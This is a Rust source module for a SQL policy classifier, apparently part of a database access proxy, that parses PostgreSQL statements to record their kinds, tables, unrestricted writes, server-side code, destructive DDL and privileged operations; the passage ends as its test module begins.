//! What a SQL text does: its statements, their kinds, the tables they touch
//! and whether their UPDATE/DELETE are restricted by a WHERE. Pure.
//!
//! # How
//! 1. The session's [`SqlDialect`] cuts the text into statements exactly
//!    where the server will, independently of the SQL library ([`ParsedSql`]).
//! 2. Each piece is parsed on its own with the dialect's parser. A
//!    piece the library rejects, or reads as anything but exactly one
//!    statement, is [`StatementKind::Unparsed`]: fail closed, decided by
//!    `policy.unparsed`. (sqlparser does not know every PostgreSQL utility
//!    statement; `DO` and `RESET`, which always are what their first word
//!    says, are recognised from that word.)
//! 3. The AST is walked once, collecting every table in every position —
//!    FROM, JOIN, subqueries in any expression, set operations, CTE bodies,
//!    INSERT … SELECT, UPDATE … FROM, DELETE … USING, MERGE, COPY, TRUNCATE
//!    and DROP lists, ALTER/CREATE targets — and every statement executed
//!    inside another one.
//!
//! # Kinds a statement executes
//! A statement has its own kind plus the kinds of what it runs inside:
//! data-modifying CTEs (`WITH d AS (DELETE …) SELECT …` is also a `delete`),
//! `EXPLAIN ANALYZE <stmt>` (runs `<stmt>`; plain `EXPLAIN` does not, so only
//! its tables count), `PREPARE x AS <stmt>` (judged as `<stmt>` at PREPARE time,
//! so a denied statement can never be prepared), queries feeding INSERT, COPY,
//! CREATE … AS, DECLARE and views (`select`), `COPY t FROM` (`insert`),
//! `SELECT … INTO t` (`create`), and MERGE's `WHEN … THEN UPDATE/DELETE/INSERT`.
//!
//! # CTE names
//! An unqualified name that refers to a CTE in scope is not a table. Scope is
//! PostgreSQL's: a CTE body sees only the CTEs before it (all of them under
//! `WITH RECURSIVE`), a subquery sees its enclosing queries' CTEs, and the
//! target of INSERT/UPDATE/DELETE/MERGE is always a real table even when a CTE
//! has the same name. Tables inside CTE bodies count.
//!
//! # Server-side code, destructive DDL, positioned writes, tautologies
//! - [`ClassifiedStatement::server_code`] says why a statement runs code
//!   inside the server that hoop cannot see ([`server_code`]): `DO`,
//!   creating routines, triggers, rules…, calls to routines that are not
//!   built in. `policy.server_code` decides those statements.
//! - [`ClassifiedStatement::destructive_ddl`] marks the `destructive_ddl`
//!   group ([`destructive`]): every `DROP`, `TRUNCATE`, dropping columns and
//!   constraints, renaming tables and columns.
//! - `UPDATE`/`DELETE … WHERE CURRENT OF cursor` touches the one row the
//!   cursor stands on: it counts as having a WHERE.
//! - A WHERE that is true for every row, however spelled (`id = id`,
//!   `1 = 1 OR id = 5`), counts as no WHERE ([`tautology`]).
//! - Statements the SQL library cannot parse are still read by their
//!   leading words for server code and destructive DDL, so `CREATE RULE`
//!   and `DROP OWNED` are caught even though they are unparsed.
//!
//! # What cannot be seen
//! - `DO` blocks and `CALL`: kind `do` / `call`, [`ClassifiedStatement::opaque`].
//! - Functions invoked anywhere (`SELECT purge_orders()`, `FROM f()`, triggers,
//!   rules): their names are listed in [`ClassifiedStatement::functions`], but what
//!   they run is invisible. So are `CREATE FUNCTION`/`CREATE RULE` bodies, and
//!   triggers and rules that already exist on the tables a statement writes.
//! - `EXECUTE name` runs what a SQL-level `PREPARE` prepared: that was judged
//!   at PREPARE time; the name is in [`ClassifiedStatement::prepared_name`] so the
//!   connection can keep per-session track if it wants to.
//! - Objects dropped or truncated without being named (`DROP SCHEMA … CASCADE`,
//!   `TRUNCATE … CASCADE`, `DROP OWNED`): only named tables are listed.

mod destructive;
pub mod privileged;
mod self_feed;
pub mod server_code;
mod tautology;

use std::ops::ControlFlow;

use sqlparser::ast::{
    BinaryOperator, CommentObject, CopySource, CopyTarget, Expr, FromTable, FunctionArg,
    FunctionArgExpr, FunctionArguments, GrantObjects, MergeAction, ObjectName, ObjectType, Query,
    Set, SetExpr, Statement, TableFactor, TableObject, Visit, Visitor,
};

use crate::{
    Routine, SqlDialect,
    dialect::ParseFailure,
    names::TableRef,
    parsed::{ParsedSql, ParsedStatement},
};
use hoop_core::StatementKind;
pub use privileged::Privileged;
pub use server_code::ServerCode;
use tautology::Target;

/// One statement of a SQL text, as policy sees it.
#[derive(Debug, Clone, PartialEq, Eq)]
pub struct ClassifiedStatement {
    /// The statement's own kind.
    pub kind: StatementKind,
    /// Other kinds it executes (see the module docs), without `kind`, no repeats.
    pub nested: Vec<StatementKind>,
    /// Every table it reads or writes, normalised, no repeats, in order of appearance.
    pub tables: Vec<TableRef>,
    /// False when an UPDATE or DELETE it executes has no row-restricting WHERE
    /// (none at all, or one that references no column, like `WHERE true` or
    /// `WHERE 1 = 1`); true otherwise, including for statements that modify nothing.
    pub has_where: bool,
    /// Functions it calls by name (their bodies are invisible to hoop).
    pub functions: Vec<String>,
    /// It runs code hoop cannot see into (`DO`, `CALL`, `EXECUTE`, a fast-path call).
    pub opaque: bool,
    /// The SQL-level prepared statement name of a `PREPARE` or `EXECUTE`.
    pub prepared_name: Option<String>,
    /// For [`StatementKind::Unparsed`]: why the statement could not be understood.
    pub unparsed_reason: Option<String>,
    /// It runs server-side code hoop cannot see, and why (the first reason
    /// found). Also set for unparsed statements whose leading words say so.
    pub server_code: Option<ServerCode>,
    /// It is in the `destructive_ddl` group (also for unparsed statements
    /// whose leading words say so).
    pub destructive_ddl: bool,
    /// It takes a privileged path around the query (server files, raw
    /// storage, planner statistics, other databases…), and which (the
    /// first found). Also set for unparsed statements whose leading words
    /// say so. `policy.privileged` decides it.
    pub privileged: Option<Privileged>,
    /// Its command tag's row count is the number of rows it writes or
    /// returns: a plain `SELECT`, `INSERT`, `UPDATE`, `DELETE` or `MERGE`
    /// that executes no other data-modifying statement (a `max_rows` dry run
    /// can count it).
    pub rows_reported: bool,
}

impl ClassifiedStatement {
    fn new(kind: StatementKind) -> Self {
        Self {
            kind,
            nested: Vec::new(),
            tables: Vec::new(),
            has_where: true,
            functions: Vec::new(),
            opaque: false,
            prepared_name: None,
            unparsed_reason: None,
            server_code: None,
            destructive_ddl: false,
            privileged: None,
            rows_reported: false,
        }
    }

    /// A statement hoop could not understand.
    pub fn unparsed(reason: impl Into<String>) -> Self {
        Self {
            unparsed_reason: Some(reason.into()),
            ..Self::new(StatementKind::Unparsed)
        }
    }

    /// A legacy fast-path `FunctionCall`: a function invoked by OID, opaque.
    pub fn function_call() -> Self {
        Self {
            opaque: true,
            server_code: Some(ServerCode::CallsById(None)),
            ..Self::new(StatementKind::Call)
        }
    }

    /// A fast-path call of routine `id`: server code unless `dialect` knows
    /// the id as one of the server's own routines.
    pub fn function_call_by_id(id: u32, dialect: &dyn SqlDialect) -> Self {
        Self {
            server_code: (!dialect.builtin_routine_id(id))
                .then_some(ServerCode::CallsById(Some(id))),
            ..Self::function_call()
        }
    }

    /// Its own kind, then the nested kinds.
    pub fn kinds(&self) -> impl Iterator<Item = StatementKind> + '_ {
        std::iter::once(self.kind).chain(self.nested.iter().copied())
    }
}

/// Classifies every statement of a parsed text. Empty text (or only
/// comments) gives no statements. Never fails: what cannot be understood is
/// `Unparsed`.
pub fn classify(parsed: &ParsedSql<'_>) -> Vec<ClassifiedStatement> {
    match &parsed.statements {
        Err(e) => vec![ClassifiedStatement::unparsed(e.to_string())],
        Ok(statements) => statements
            .iter()
            .map(|statement| classify_one(statement, parsed.dialect()))
            .collect(),
    }
}

/// Classifies one statement of a text.
fn classify_one(
    statement: &ParsedStatement<'_>,
    dialect: &'static dyn SqlDialect,
) -> ClassifiedStatement {
    let mut classified = match &statement.ast {
        Ok(ast) => classify_parsed(ast, dialect, statement.current_of.is_some()),
        Err(e @ ParseFailure::Several(_)) => from_words(statement.text, dialect, e.to_string()),
        Err(ParseFailure::Syntax(e)) => from_words(statement.text, dialect, e.clone()),
    };
    // The privileged statement forms, by their leading words, whether the
    // SQL library read the statement or not (it reads some of them only in
    // part, e.g. `CREATE FOREIGN TABLE` as a table).
    if classified.privileged.is_none()
        && dialect
            .first_word(statement.text)
            .is_some_and(|w| privileged::may_start_form(&w))
    {
        classified.privileged =
            privileged::from_words(&dialect.leading_words(statement.text, PRIVILEGED_WORDS));
    }
    classified
}

/// How many leading words the privileged statement forms are read by.
const PRIVILEGED_WORDS: usize = 6;

/// How many leading words an unparsed statement is read by.
const LEADING_WORDS: usize = 32;

/// A statement the SQL library could not parse, read by its leading words.
/// `DO`, `RESET`, `FETCH` and `MOVE` always are what their first word says;
/// anything else is
/// unparsed (`policy.unparsed` decides it), but still marked as server code
/// or destructive DDL when its words say so, and given the kind they name.
fn from_words(text: &str, dialect: &dyn SqlDialect, reason: String) -> ClassifiedStatement {
    let words = dialect.leading_words(text, LEADING_WORDS);
    let server_code = server_code::from_words(&words);
    let destructive_ddl = destructive::from_words(&words);
    let privileged = privileged::from_words(&words);
    match words.first().map(String::as_str) {
        Some("do") => ClassifiedStatement {
            opaque: true,
            server_code,
            ..ClassifiedStatement::new(StatementKind::Do)
        },
        Some("reset") => ClassifiedStatement::new(StatementKind::Reset),
        // `FETCH c`, `FETCH 5 c`, `MOVE c`: the SQL library wants a direction
        // and `FROM`; a FETCH or MOVE only reads a cursor declared (and
        // judged) before.
        Some("fetch" | "move") => ClassifiedStatement::new(StatementKind::Fetch),
        first => {
            let named = match first {
                Some("drop") => Some(StatementKind::Drop),
                Some("truncate") => Some(StatementKind::Truncate),
                Some("create") => Some(StatementKind::Create),
                Some("alter") => Some(StatementKind::Alter),
                Some("call") => Some(StatementKind::Call),
                _ => None,
            };
            ClassifiedStatement {
                nested: named.into_iter().collect(),
                server_code,
                destructive_ddl,
                privileged,
                ..ClassifiedStatement::unparsed(reason)
            }
        }
    }
}

/// Classifies one parsed statement.
pub fn classify_statement(
    statement: &Statement,
    dialect: &'static dyn SqlDialect,
) -> ClassifiedStatement {
    classify_parsed(statement, dialect, false)
}

/// Classifies one parsed statement; `positioned`: it is an `UPDATE`/`DELETE`
/// whose `WHERE CURRENT OF cursor` was cut out before parsing.
fn classify_parsed(
    statement: &Statement,
    dialect: &'static dyn SqlDialect,
    positioned: bool,
) -> ClassifiedStatement {
    let mut collector = Collector::new(dialect);
    if positioned {
        collector.positioned = Some(match statement {
            Statement::Query(q) => match &*q.body {
                SetExpr::Update(s) | SetExpr::Delete(s) => std::ptr::from_ref(s),
                _ => std::ptr::from_ref(statement),
            },
            _ => std::ptr::from_ref(statement),
        });
    }
    let _ = statement.visit(&mut collector);
    let mut kinds = collector.kinds.into_iter();
    let kind = kinds.next().unwrap_or(StatementKind::Other);
    let own_writes = usize::from(matches!(
        kind,
        StatementKind::Insert
            | StatementKind::Update
            | StatementKind::Delete
            | StatementKind::Merge
    ));
    let rows_reported = matches!(
        kind,
        StatementKind::Select
            | StatementKind::Insert
            | StatementKind::Update
            | StatementKind::Delete
            | StatementKind::Merge
    ) && collector.writes == own_writes
        && !collector.copies;
    ClassifiedStatement {
        kind,
        nested: kinds.collect(),
        tables: collector.tables,
        has_where: !collector.unfiltered,
        functions: collector.functions,
        opaque: collector.opaque,
        prepared_name: collector.prepared_name,
        unparsed_reason: None,
        server_code: collector.server_code,
        destructive_ddl: collector.destructive_ddl,
        privileged: collector.privileged,
        rows_reported,
    }
}

/// The kind of a statement by itself.
fn kind_of(statement: &Statement) -> StatementKind {
    use StatementKind as K;
    match statement {
        Statement::Query(query) => match &*query.body {
            SetExpr::Insert(_) => K::Insert,
            SetExpr::Update(_) => K::Update,
            SetExpr::Delete(_) => K::Delete,
            SetExpr::Merge(_) => K::Merge,
            _ => K::Select,
        },
        Statement::Insert(_) => K::Insert,
        Statement::Update { .. } => K::Update,
        Statement::Delete(_) => K::Delete,
        Statement::Merge { .. } => K::Merge,
        Statement::Truncate { .. } => K::Truncate,
        Statement::Drop { .. }
        | Statement::DropFunction { .. }
        | Statement::DropDomain(_)
        | Statement::DropProcedure { .. }
        | Statement::DropSecret { .. }
        | Statement::DropPolicy { .. }
        | Statement::DropConnector { .. }
        | Statement::DropExtension { .. }
        | Statement::DropTrigger(_) => K::Drop,
        Statement::AlterTable { .. }
        | Statement::AlterSchema(_)
        | Statement::AlterIndex { .. }
        | Statement::AlterView { .. }
        | Statement::AlterType(_)
        | Statement::AlterRole { .. }
        | Statement::AlterPolicy { .. }
        | Statement::AlterConnector { .. }
        | Statement::RenameTable(_) => K::Alter,
        Statement::CreateView { .. }
        | Statement::CreateTable(_)
        | Statement::CreateVirtualTable { .. }
        | Statement::CreateIndex(_)
        | Statement::CreateRole { .. }
        | Statement::CreateSecret { .. }
        | Statement::CreateServer(_)
        | Statement::CreatePolicy { .. }
        | Statement::CreateConnector(_)
        | Statement::CreateExtension { .. }
        | Statement::CreateSchema { .. }
        | Statement::CreateDatabase { .. }
        | Statement::CreateFunction(_)
        | Statement::CreateTrigger(_)
        | Statement::CreateProcedure { .. }
        | Statement::CreateMacro { .. }
        | Statement::CreateStage { .. }
        | Statement::CreateSequence { .. }
        | Statement::CreateDomain(_)
        | Statement::CreateType { .. }
        | Statement::CreateUser(_) => K::Create,
        Statement::Grant { .. } => K::Grant,
        Statement::Revoke { .. } => K::Revoke,
        Statement::Copy { .. } | Statement::CopyIntoSnowflake { .. } => K::Copy,
        Statement::Call(_) => K::Call,
        Statement::Set(_) => K::Set,
        Statement::ShowFunctions { .. }
        | Statement::ShowVariable { .. }
        | Statement::ShowStatus { .. }
        | Statement::ShowVariables { .. }
        | Statement::ShowCreate { .. }
        | Statement::ShowColumns { .. }
        | Statement::ShowDatabases { .. }
        | Statement::ShowSchemas { .. }
        | Statement::ShowCharset(_)
        | Statement::ShowObjects(_)
        | Statement::ShowTables { .. }
        | Statement::ShowViews { .. }
        | Statement::ShowCollation { .. } => K::Show,
        Statement::StartTransaction { .. } => K::Begin,
        Statement::Commit { .. } => K::Commit,
        Statement::Rollback { .. } => K::Rollback,
        Statement::Savepoint { .. } | Statement::ReleaseSavepoint { .. } => K::Savepoint,
        Statement::Prepare { .. } => K::Prepare,
        Statement::Execute { .. } => K::Execute,
        Statement::Deallocate { .. } => K::Deallocate,
        Statement::Declare { .. } => K::Declare,
        Statement::Fetch { .. } => K::Fetch,
        Statement::Close { .. } => K::Close,
        Statement::LISTEN { .. } => K::Listen,
        Statement::NOTIFY { .. } => K::Notify,
        Statement::UNLISTEN { .. } => K::Unlisten,
        Statement::Explain { .. } | Statement::ExplainTable { .. } => K::Explain,
        Statement::Vacuum(_) => K::Vacuum,
        Statement::Analyze { .. } => K::Analyze,
        Statement::LockTables { .. } => K::Lock,
        Statement::Discard { .. } => K::Discard,
        Statement::Comment { .. } => K::Comment,
        _ => K::Other,
    }
}

/// The target of a single-table write, for [`tautology::restricts`].
fn single_target(factor: &TableFactor, others: usize, dialect: &dyn SqlDialect) -> Option<Target> {
    if others > 0 {
        return None;
    }
    let TableFactor::Table { name, alias, .. } = factor else {
        return None;
    };
    let mut names: Vec<String> = name
        .0
        .last()
        .and_then(|p| p.as_ident())
        .map(|i| dialect.fold(i))
        .into_iter()
        .collect();
    if let Some(alias) = alias {
        // With an alias, the table's own name no longer qualifies columns.
        names = vec![dialect.fold(&alias.name)];
    }
    Some(Target { names })
}

/// Whether `expr` may name a column of the write target `factor`: an
/// unqualified column (it could be the target's), or one qualified with
/// the target's alias (or, without one, its name). `false` proves the
/// predicate restricts only other tables.
fn names_target(expr: &Expr, factor: &TableFactor, dialect: &dyn SqlDialect) -> bool {
    let Some(target) = single_target(factor, 0, dialect) else {
        return true;
    };
    sqlparser::ast::visit_expressions(expr, |e| match e {
        Expr::Identifier(_) => ControlFlow::Break(()),
        Expr::CompoundIdentifier(parts) => match parts.len().checked_sub(2).map(|i| &parts[i]) {
            // `alias.column`, `table.column`, `schema.table.column`.
            Some(q) if target.names.contains(&dialect.fold(q)) => ControlFlow::Break(()),
            _ => ControlFlow::Continue(()),
        },
        _ => ControlFlow::Continue(()),
    })
    .is_break()
}

/// Whether EXPLAIN's options make it run the statement (`ANALYZE`, `(ANALYZE)`,
/// `(ANALYZE true)`, `(analyse on)`…). Anything but an explicit false runs it.
fn explain_runs(analyze: bool, options: Option<&Vec<sqlparser::ast::UtilityOption>>) -> bool {
    analyze
        || options.is_some_and(|options| {
            options.iter().any(|o| {
                let name = o.name.value.to_lowercase();
                (name == "analyze" || name == "analyse")
                    && o.arg.as_ref().is_none_or(|arg| {
                        let arg = arg.to_string().to_lowercase();
                        !matches!(arg.trim_matches('\''), "false" | "off" | "0" | "no")
                    })
            })
        })
}

/// One query's CTE scope.
struct Scope {
    /// Normalised CTE names, in order.
    names: Vec<String>,
    recursive: bool,
    /// How many CTE bodies of this query have been entered so far.
    bodies_entered: usize,
    /// When this query is the body of a parent's CTE number N, `Some(N)`.
    cte_index_in_parent: Option<usize>,
}

struct Collector {
    dialect: &'static dyn SqlDialect,
    scopes: Vec<Scope>,
    /// For each statement being visited: whether statements inside it execute.
    executes: Vec<bool>,
    kinds: Vec<StatementKind>,
    tables: Vec<TableRef>,
    functions: Vec<String>,
    unfiltered: bool,
    opaque: bool,
    prepared_name: Option<String>,
    /// The name of a table function (`FROM f(1)`) about to be seen as a relation.
    table_function: Option<ObjectName>,
    server_code: Option<ServerCode>,
    destructive_ddl: bool,
    privileged: Option<Privileged>,
    /// Data-modifying statements (INSERT, UPDATE, DELETE, MERGE) it executes.
    writes: usize,
    /// It executes a COPY (its count is not a dry run's to take).
    copies: bool,
    /// The positioned write (`WHERE CURRENT OF`) among the statements, by
    /// address: its missing WHERE names one row.
    positioned: Option<*const Statement>,
}

impl Collector {
    fn new(dialect: &'static dyn SqlDialect) -> Self {
        Self {
            dialect,
            scopes: Vec::new(),
            executes: Vec::new(),
            kinds: Vec::new(),
            tables: Vec::new(),
            functions: Vec::new(),
            unfiltered: false,
            opaque: false,
            prepared_name: None,
            table_function: None,
            server_code: None,
            destructive_ddl: false,
            privileged: None,
            writes: 0,
            copies: false,
            positioned: None,
        }
    }

    fn server_code(&mut self, code: ServerCode) {
        if self.server_code.is_none() {
            self.server_code = Some(code);
        }
    }

    fn privileged(&mut self, path: Privileged) {
        if self.privileged.is_none() {
            self.privileged = Some(path);
        }
    }

    /// Notes a call of `name`: server code unless it is built in, and a
    /// privileged path when the dialect says so.
    fn call(&mut self, name: &ObjectName) {
        if self.dialect.routine(name) == Routine::NotBuiltIn {
            self.server_code(ServerCode::Calls(name.to_string()));
        }
        if let Some(what) = self.dialect.privileged_routine(name) {
            self.privileged(Privileged::Routine(name.to_string(), what));
        }
        if destructive::routine(name) && self.executing() {
            self.destructive_ddl = true;
        }
    }

    fn executing(&self) -> bool {
        self.executes.last().copied().unwrap_or(true)
    }

    fn kind(&mut self, kind: StatementKind) {
        if self.executing() && !self.kinds.contains(&kind) {
            self.kinds.push(kind);
        }
    }

    fn table(&mut self, table: TableRef) {
        if self.privileged.is_none()
            && let Some(what) = self.dialect.privileged_relation(&table)
        {
            self.privileged(Privileged::Relation(table.to_string(), what));
        }
        if !self.tables.contains(&table) {
            self.tables.push(table);
        }
    }

    /// A name that is always a real table (DML targets, DROP lists…).
    fn real_table(&mut self, name: &ObjectName) {
        if let Some(table) = TableRef::from_object_name(name, self.dialect) {
            self.table(table);
        }
    }

    fn target_factor(&mut self, factor: &TableFactor) {
        if let TableFactor::Table { name, .. } = factor {
            self.real_table(name);
        }
    }

    /// Whether an unqualified name refers to a CTE in scope here.
    fn is_cte(&self, name: &str) -> bool {
        let mut limit: Option<usize> = None;
        for scope in self.scopes.iter().rev() {
            let visible = match limit {
                Some(n) if !scope.recursive => &scope.names[..n.min(scope.names.len())],
                _ => &scope.names[..],
            };
            if visible.iter().any(|n| n == name) {
                return true;
            }
            limit = scope.cte_index_in_parent;
        }
        false
    }

    fn unfiltered_if(&mut self, restricted: bool) {
        if self.executing() && !restricted {
            self.unfiltered = true;
        }
    }

    /// A data-modifying statement that executes.
    fn write(&mut self) {
        if self.executing() {
            self.writes += 1;
        }
    }

    /// The parts of a query body the visitor has no hook for.
    fn set_expr(&mut self, body: &SetExpr) {
        match body {
            SetExpr::Select(select) => {
                self.kind(StatementKind::Select);
                if let Some(into) = &select.into {
                    self.kind(StatementKind::Create);
                    self.real_table(&into.name);
                }
            }
            SetExpr::SetOperation { left, right, .. } => {
                self.set_expr(left);
                self.set_expr(right);
            }
            SetExpr::Table(table) => {
                self.kind(StatementKind::Select);
                if let Some(name) = &table.table_name {
                    // `TABLE x` keeps no quoting information: count both foldings (fail closed).
                    let schema = table.schema_name.clone();
                    for name in [name.clone(), name.to_lowercase()] {
                        if schema.is_some() || !self.is_cte(&name) {
                            self.table(TableRef {
                                schema: schema.clone(),
                                name,
                            });
                        }
                    }
                }
            }
            SetExpr::Query(_)
            | SetExpr::Values(_)
            | SetExpr::Insert(_)
            | SetExpr::Update(_)
            | SetExpr::Delete(_)
            | SetExpr::Merge(_) => {}
        }
    }
}

impl Visitor for Collector {
    type Break = ();

    fn pre_visit_statement(&mut self, statement: &Statement) -> ControlFlow<()> {
        self.kind(kind_of(statement));
        if destructive::statement(statement) {
            self.destructive_ddl = true;
        }
        let mut inner_executes = self.executing();
        if let Statement::Copy { target, .. } = statement {
            match target {
                CopyTarget::Program { .. } => self.privileged(Privileged::CopyProgram),
                CopyTarget::File { .. } => self.privileged(Privileged::CopyServerFile),
                CopyTarget::Stdin | CopyTarget::Stdout => {}
            }
        }
        match statement {
            Statement::Explain {
                analyze, options, ..
            } => {
                inner_executes &= explain_runs(*analyze, options.as_ref());
            }
            Statement::Update {
                table,
                selection,
                from,
                ..
            } => {
                self.target_factor(&table.relation);
                let others = table.joins.len() + usize::from(from.is_some());
                let target = single_target(&table.relation, others, self.dialect);
                let positioned = self.positioned == Some(std::ptr::from_ref(statement));
                // Joined with other tables, a WHERE that names none of the
                // target's columns restricts only the others: every target
                // row with a partner is written.
                let joined_unrestricted = others > 0
                    && selection
                        .as_ref()
                        .is_some_and(|w| !names_target(w, &table.relation, self.dialect));
                self.unfiltered_if(
                    positioned
                        || (!joined_unrestricted
                            && tautology::restricts(
                                selection.as_ref(),
                                self.dialect,
                                target.as_ref(),
                            )),
                );
                self.write();
            }
            Statement::Delete(delete) => {
                for name in &delete.tables {
                    self.real_table(name);
                }
                let (FromTable::WithFromKeyword(from) | FromTable::WithoutKeyword(from)) =
                    &delete.from;
                for target in from {
                    self.target_factor(&target.relation);
                }
                let others = from.len().saturating_sub(1)
                    + from.first().map_or(0, |t| t.joins.len())
                    + delete.using.as_ref().map_or(0, Vec::len);
                let target = from
                    .first()
                    .and_then(|t| single_target(&t.relation, others, self.dialect));
                let positioned = self.positioned == Some(std::ptr::from_ref(statement));
                let joined_unrestricted = others > 0
                    && from.first().is_some_and(|t| {
                        delete
                            .selection
                            .as_ref()
                            .is_some_and(|w| !names_target(w, &t.relation, self.dialect))
                    });
                self.unfiltered_if(
                    positioned
                        || (!joined_unrestricted
                            && tautology::restricts(
                                delete.selection.as_ref(),
                                self.dialect,
                                target.as_ref(),
                            )),
                );
                self.write();
            }
            Statement::Insert(insert) => {
                if let TableObject::TableName(name) = &insert.table {
                    self.real_table(name);
                }
                if self_feed::upsert_updates(insert) {
                    // ON CONFLICT DO UPDATE (ON DUPLICATE KEY UPDATE)
                    // updates existing rows.
                    self.kind(StatementKind::Update);
                    self.unfiltered_if(!self_feed::upsert_rewrites_every_row(insert, self.dialect));
                } else if insert.replace_into {
                    // MySQL's REPLACE deletes the row a new one conflicts
                    // with, then inserts: a delete too.
                    self.kind(StatementKind::Delete);
                    self.unfiltered_if(!self_feed::upsert_rewrites_every_row(insert, self.dialect));
                }
                self.write();
            }
            Statement::Merge {
                table,
                source,
                on,
                clauses,
                ..
            } => {
                self.target_factor(table);
                for clause in clauses {
                    match clause.action {
                        MergeAction::Insert(_) => self.kind(StatementKind::Insert),
                        MergeAction::Update { .. } => self.kind(StatementKind::Update),
                        MergeAction::Delete => self.kind(StatementKind::Delete),
                    }
                }
                // An ON that names none of the target's columns matches
                // every target row with any source row.
                self.unfiltered_if(
                    names_target(on, table, self.dialect)
                        && tautology::restricts(Some(on), self.dialect, None)
                        && !self_feed::merge_matches_every_row(
                            table,
                            source,
                            on,
                            clauses,
                            self.dialect,
                        ),
                );
                self.write();
            }
            Statement::Drop {
                object_type,
                names,
                table,
                ..
            } => {
                if matches!(
                    object_type,
                    ObjectType::Table | ObjectType::View | ObjectType::MaterializedView
                ) {
                    for name in names {
                        self.real_table(name);
                    }
                }
                if let Some(table) = table {
                    self.real_table(table);
                }
            }
            Statement::Copy {
                source: CopySource::Table { table_name, .. },
                to,
                ..
            } => {
                self.real_table(table_name);
                self.kind(if *to {
                    StatementKind::Select
                } else {
                    StatementKind::Insert
                });
                self.copies = true;
            }
            Statement::Copy { .. } => self.copies = true,
            Statement::CreateView { name, .. } => self.real_table(name),
            Statement::Vacuum(vacuum) => {
                if let Some(name) = &vacuum.table_name {
                    self.real_table(name);
                }
            }
            Statement::CreateTable(create) => self.real_table(&create.name),
            Statement::Comment {
                object_type: CommentObject::Table,
                object_name,
                ..
            } => self.real_table(object_name),
            Statement::Grant {
                objects: Some(GrantObjects::Tables(names)),
                ..
            }
            | Statement::Revoke {
                objects: Some(GrantObjects::Tables(names)),
                ..
            } => {
                for name in names {
                    self.real_table(name);
                }
            }
            Statement::Call(function) => {
                self.opaque = true;
                self.functions
                    .push(function.name.to_string().to_lowercase());
                // PostgreSQL has no built-in procedures: a CALL runs code a
                // user wrote (a built-in function's name is refused by the
                // server before anything runs).
                self.call(&function.name);
            }
            Statement::CreateFunction(_) => self.server_code(ServerCode::Defines("function")),
            Statement::CreateProcedure { .. } => {
                self.server_code(ServerCode::Defines("procedure"));
            }
            Statement::CreateTrigger(_) => self.server_code(ServerCode::Defines("trigger")),
            Statement::CreateMacro { .. } => self.server_code(ServerCode::Defines("macro")),
            Statement::CreateExtension { .. } => {
                self.server_code(ServerCode::Defines("extension"));
            }
            Statement::Load { .. } => self.server_code(ServerCode::LoadsLibrary),
            Statement::Set(Set::SingleAssignment {
                variable, values, ..
            }) if variable
                .0
                .last()
                .and_then(|p| p.as_ident())
                .is_some_and(|i| i.value.eq_ignore_ascii_case("search_path"))
                && server_code::path_shadows(values) =>
            {
                self.server_code(ServerCode::ShadowsBuiltins);
            }
            Statement::Prepare { name, .. } => self.prepared_name = Some(self.dialect.fold(name)),
            Statement::Execute { name, .. } => {
                self.opaque = true;
                self.prepared_name = name.as_ref().map(|n| n.to_string().to_lowercase());
            }
            _ => {}
        }
        self.executes.push(inner_executes);
        ControlFlow::Continue(())
    }

    fn post_visit_statement(&mut self, _statement: &Statement) -> ControlFlow<()> {
        self.executes.pop();
        ControlFlow::Continue(())
    }

    fn pre_visit_query(&mut self, query: &Query) -> ControlFlow<()> {
        // While a parent is still entering its CTE bodies, the next query
        // directly under it is its next CTE body (nothing else in `WITH` is a query).
        let cte_index_in_parent = self.scopes.last_mut().and_then(|parent| {
            (parent.bodies_entered < parent.names.len()).then(|| {
                parent.bodies_entered += 1;
                parent.bodies_entered - 1
            })
        });
        let (names, recursive) = query.with.as_ref().map_or((Vec::new(), false), |with| {
            (
                with.cte_tables
                    .iter()
                    .map(|cte| self.dialect.fold(&cte.alias.name))
                    .collect(),
                with.recursive,
            )
        });
        self.scopes.push(Scope {
            names,
            recursive,
            bodies_entered: 0,
            cte_index_in_parent,
        });
        self.set_expr(&query.body);
        ControlFlow::Continue(())
    }

    fn post_visit_query(&mut self, _query: &Query) -> ControlFlow<()> {
        self.scopes.pop();
        ControlFlow::Continue(())
    }

    fn pre_visit_table_factor(&mut self, factor: &TableFactor) -> ControlFlow<()> {
        match factor {
            TableFactor::Table {
                name,
                args: Some(_),
                ..
            } => {
                self.functions.push(name.to_string().to_lowercase());
                self.table_function = Some(name.clone());
                self.call(name);
            }
            TableFactor::Function { name, .. } => self.call(name),
            _ => {}
        }
        ControlFlow::Continue(())
    }

    fn pre_visit_relation(&mut self, relation: &ObjectName) -> ControlFlow<()> {
        if self.table_function.as_ref() == Some(relation) {
            self.table_function = None;
            return ControlFlow::Continue(());
        }
        if let Some(table) = TableRef::from_object_name(relation, self.dialect)
            && (table.schema.is_some() || !self.is_cte(&table.name))
        {
            self.table(table);
        }
        ControlFlow::Continue(())
    }

    fn pre_visit_expr(&mut self, expr: &Expr) -> ControlFlow<()> {
        match expr {
            Expr::Function(function) => {
                let name = function.name.to_string().to_lowercase();
                if !self.functions.contains(&name) {
                    self.functions.push(name);
                }
                self.call(&function.name);
                if let FunctionArguments::List(list) = &function.args {
                    let args: Vec<Expr> = list
                        .args
                        .iter()
                        .filter_map(|a| match a {
                            FunctionArg::Unnamed(FunctionArgExpr::Expr(e)) => Some(e.clone()),
                            _ => None,
                        })
                        .collect();
                    if server_code::set_config_shadows(&function.name, &args) {
                        self.server_code(ServerCode::ShadowsBuiltins);
                    }
                }
            }
            Expr::BinaryOp {
                op: BinaryOperator::Custom(symbol),
                ..
            } if !self.dialect.builtin_operator(symbol) => {
                self.server_code(ServerCode::Operator(symbol.clone()));
            }
            Expr::BinaryOp {
                op: BinaryOperator::PGCustomBinaryOperator(parts),
                ..
            } => {
                // OPERATOR(schema.op): built in only in pg_catalog.
                let builtin = match parts.as_slice() {
                    [symbol] => self.dialect.builtin_operator(symbol),
                    [schema, symbol] => {
                        schema.eq_ignore_ascii_case("pg_catalog")
                            && self.dialect.builtin_operator(symbol)
                    }
                    _ => false,
                };
                if !builtin {
                    self.server_code(ServerCode::Operator(parts.join(".")));
                }
            }
            _ => {}
        }
        ControlFlow::Continue(())
    }
}

#[cfg(test)]
#[allow(clippy::unwrap_used)]
mod tests {
    use super::*;
    use crate::pg::Postgres;
    use StatementKind as K;

    fn classify(sql: &str) -> Vec<ClassifiedStatement> {
        super::classify(&ParsedSql::parse(&Postgres, sql))
    }

    fn one(sql: &str) -> ClassifiedStatement {
        let mut all = classify(sql);
        assert_eq!(all.len(), 1, "{sql}: {all:?}");
        all.remove(0)
    }

    fn tables(sql: &str) -> Vec<String> {
